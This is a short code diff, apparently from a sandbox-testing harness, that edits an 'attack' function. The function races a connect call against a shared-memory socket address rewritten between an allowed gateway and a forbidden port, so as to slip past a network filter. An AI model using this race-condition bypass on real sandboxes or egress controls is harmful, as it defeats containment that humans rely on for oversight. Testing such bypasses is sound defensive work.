@@ -20,14 +20,14 @@ def _address(port: int) -> bytes:
 
 def attack(places: Places) -> str | None:
     good, bad = _address(places.gateway), _address(places.ports["race"])
-    shared, tried = mmap.mmap(-1, 4096), 0
+    shared = mmap.mmap(-1, 4096)
     rewritten = rewriting(shared, 0, bad, good)
     address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(shared)))
-    for tried in tries(ATTEMPTS, rewritten):  # noqa: B007
+    for _ in tries(ATTEMPTS, rewritten):
         with socket.socket() as one:
             libc.connect(one.fileno(), address, 16)
         time.sleep(0.002)
-    return f"{tried} tries"
+    return "tried it all"
 
 
 def seen(places: Places) -> bool:
